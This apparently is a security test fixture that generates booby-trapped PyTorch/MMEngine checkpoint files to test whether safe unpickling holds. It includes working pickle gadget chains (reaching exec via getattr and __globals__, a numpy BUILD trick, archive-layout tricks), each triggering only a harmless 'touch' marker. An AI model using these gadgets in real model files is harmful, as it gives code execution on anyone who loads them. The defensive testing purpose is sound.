"""Files that run a command as soon as an unpickler trusts them."""

import io
import os
import pickle
import tarfile
import warnings
import zipfile
from collections import OrderedDict
from pathlib import Path

import numpy as np
import torch
from mmengine.logging import HistoryBuffer

BUFFER = 'cmmengine.logging.history_buffer\nHistoryBuffer\n'
SCHEDULER = (
    'cmmengine.optim.scheduler.param_scheduler\nOneCycleParamScheduler\n'
)


class Calls:
    """Unpickling it calls a function."""

    def __init__(self, function, *arguments):
        self.function, self.arguments = function, arguments

    def __reduce__(self):
        return self.function, self.arguments


class CallsWithState(Calls):
    """The same, for a pickler of a class whose state is then set."""

    def __reduce__(self):
        return self.function, self.arguments, {'a': 1}


def touch(marker: Path) -> Calls:
    return Calls(os.system, f'touch {marker}')


def checkpoint(**more) -> dict:
    """With all that a resumed run looks at, and little else."""
    return dict(
        state_dict=OrderedDict(w=torch.ones(1)),
        meta=dict(epoch=0, iter=0, seed=1),
        optimizer=dict(state={}, param_groups=[]),
        message_hub=dict(log_scalars={}, runtime_info={}, resumed_keys={}),
        **more,
    )


def in_meta(marker):
    content = checkpoint()
    content['meta']['x'] = [{'y': (touch(marker),)}]
    return content


def in_log_buffer(marker):
    content = checkpoint()
    buffer = HistoryBuffer([1.0], [1])
    # The class shares its table of functions; this one gets its own.
    buffer.__dict__['_statistics_methods'] = {'mean': touch(marker)}
    content['message_hub']['log_scalars']['loss'] = buffer
    return content


def as_statistics(marker):
    return checkpoint(buffer=CallsWithState(os.system, f'touch {marker}'))


def with_a_name_that_torch_refuses(marker):
    # torch's list lacks _frombuffer, so that MMEngine would run everything.
    array = Calls(
        np._core.numeric._frombuffer,
        b'\0' * 8,
        np.dtype('float64'),
        (1,),
        'C',
    )
    return checkpoint(a=array, b=touch(marker))


def with_a_name_that_we_refuse(marker):
    content = Calls(torch._utils._rebuild_device_tensor_from_numpy, 1, 2)
    return dict(b=touch(marker), **checkpoint(a=content))


TREES = {
    f.__name__: f
    for f in (
        in_meta,
        in_log_buffer,
        as_statistics,
        with_a_name_that_torch_refuses,
        with_a_name_that_we_refuse,
    )
}


def walk_to_exec(marker) -> bytes:
    """From a function of a log buffer to ``exec``, with getattr alone."""

    def text(value):
        content = value.encode()
        return b'X' + len(content).to_bytes(4, 'little') + content

    getattr_ = b'c__builtin__\ngetattr\n'
    method = getattr_ + BUFFER.encode() + text('min') + b'\x86R'
    names = getattr_ + method + text('__globals__') + b'\x86R'
    builtins = getattr_ + names + text('get') + b'\x86R'
    builtins += text('__builtins__') + b'\x85R'
    run = getattr_ + builtins + text('get') + b'\x86R' + text('exec')
    run += b'\x85R' + text(f'open({str(marker)!r}, "w")') + b'\x85R'
    return b'\x80\x02}' + text('a') + run + b's.'


def set_on_a_class(marker) -> bytes:
    """NumPy gives an object back as it is, and BUILD sets what it wants."""

    def text(value):
        content = value.encode()
        return b'X' + len(content).to_bytes(4, 'little') + content

    kind = b'cnumpy\ndtype\n' + text('O8') + b'\x89\x88\x87R'
    same = b'cnumpy._core.multiarray\nscalar\n' + kind
    same += SCHEDULER.encode() + b'\x86R'
    state = b'N}' + text('evil') + b'c__builtin__\neval\ns\x86b'
    call = b'cbuiltins\nexec\n' + text(f'open({str(marker)!r}, "w")')
    return (
        b'\x80\x02}'
        + text('a')
        + same
        + state
        + b's'
        + text('b')
        + (call + b'\x85Rs.')
    )


PICKLES = {f.__name__: f for f in (walk_to_exec, set_on_a_class)}


def zipped(content: bytes) -> bytes:
    """A file of torch's layout around any pickle."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, 'w') as archive:
        archive.writestr('archive/data.pkl', content)
        archive.writestr('archive/version', '3\n')
        archive.writestr('archive/byteorder', 'little')
    return file.getvalue()


def saved(content, **layout) -> bytes:
    file = io.BytesIO()
    torch.save(content, file, **layout)
    return file.getvalue()


def tarred(marker) -> bytes:
    """torch's first layout, whose last part is unpickled."""
    parts = dict(
        storages=pickle.dumps(0) + pickle.dumps([]),
        tensors=pickle.dumps(0),
        pickle=pickle.dumps(in_meta(marker), 2),
    )
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode='w') as archive:
        for name, content in parts.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return file.getvalue()


def two_in_one(marker) -> bytes:
    """The old layout, which runs, with a harmless archive behind it."""
    old = saved(in_meta(marker), _use_new_zipfile_serialization=False)
    return old + saved(checkpoint())


def two_pickles(marker) -> bytes:
    """An archive with two parts of the one name."""
    file = io.BytesIO(saved(checkpoint()))
    with zipfile.ZipFile(file, 'a') as archive, warnings.catch_warnings():
        warnings.simplefilter('ignore')
        name = next(n for n in archive.namelist() if n.endswith('data.pkl'))
        archive.writestr(name, pickle.dumps(in_meta(marker), 2))
    return file.getvalue()


def files(folder: Path) -> list[tuple[Path, Path]]:
    """Pairs of a file and the marker that it would make."""
    made = {}
    marker = {}

    def add(name, make):
        marker[name] = folder / f'{name}.ran'
        made[name] = make(marker[name])

    for name, tree in TREES.items():
        add(f'{name}-zip', lambda m, t=tree: saved(t(m)))
        add(
            f'{name}-old',
            lambda m, t=tree: saved(
                t(m), _use_new_zipfile_serialization=False
            ),
        )
    add('proto4', lambda m: saved(in_meta(m), pickle_protocol=4))
    for name, content in PICKLES.items():
        add(name, lambda m, c=content: zipped(c(m)))
    for make in (tarred, two_in_one, two_pickles):
        add(make.__name__, make)
    pairs = []
    for name, content in made.items():
        path = folder / f'{name}.pth'
        path.write_bytes(content)
        pairs.append((path, marker[name]))
    return pairs
